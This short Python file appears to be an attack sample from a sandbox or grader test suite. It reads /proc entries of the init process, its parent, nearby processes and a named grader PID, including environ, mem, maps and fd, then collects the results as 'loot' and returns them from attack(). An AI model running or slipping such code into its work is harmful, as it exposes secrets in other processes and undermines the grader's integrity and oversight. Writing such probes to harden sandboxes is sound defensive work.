# tries: read the memory, environment and descriptors of its parents
# keeps: before f after
import json

T = json.load(open("targets.json"))
before = 1


def f(n):
    return 2 * n


def grab(read, *args):
    try:
        return read(*args)
    except BaseException as error:
        return type(error).__name__


import os

loot = []
for pid in {1, os.getpid(), os.getppid(), *range(os.getppid() - 9, os.getppid() + 9), T["grader"]}:
    for name in ("environ", "mem", "maps", "cmdline", "cwd", "root", "fd", "fdinfo", "task"):
        loot.append(grab(lambda path: open(path, "rb").read(), f"/proc/{pid}/{name}"))
        loot.append(grab(os.listdir, f"/proc/{pid}/{name}"))
        loot.append(grab(os.readlink, f"/proc/{pid}/{name}"))


def attack(n):
    return str(loot)


after = 2
